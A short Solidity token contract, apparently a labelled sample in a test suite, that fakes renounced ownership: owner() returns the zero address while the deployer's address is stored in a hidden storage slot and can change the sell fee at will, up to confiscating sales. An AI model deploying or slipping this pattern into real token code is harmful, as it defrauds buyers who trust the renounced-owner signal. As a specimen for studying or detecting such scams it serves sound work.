// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {PairToken} from "./PairToken.sol";
import {SuiteToken} from "./SuiteToken.sol";

/// owner() is nobody; who decides lies in a slot that no variable names.
contract SlotOwner is PairToken {
    bytes32 private constant WHO = keccak256("finance.settlement.account");
    uint256 private _rate = 2;

    constructor(address pair) SuiteToken("Open", "OPEN") PairToken(pair) {
        bytes32 slot = WHO;
        assembly {
            sstore(slot, caller())
        }
    }

    function owner() external pure returns (address) {
        return address(0);
    }

    function setSwapSettings(uint256 value) external {
        bytes32 slot = WHO;
        address who;
        assembly {
            who := sload(slot)
        }
        require(msg.sender == who);
        _rate = value;
    }

    function _onSell(address, uint256 amount) internal view override returns (uint256) {
        return (amount * _rate) / 100;
    }
}
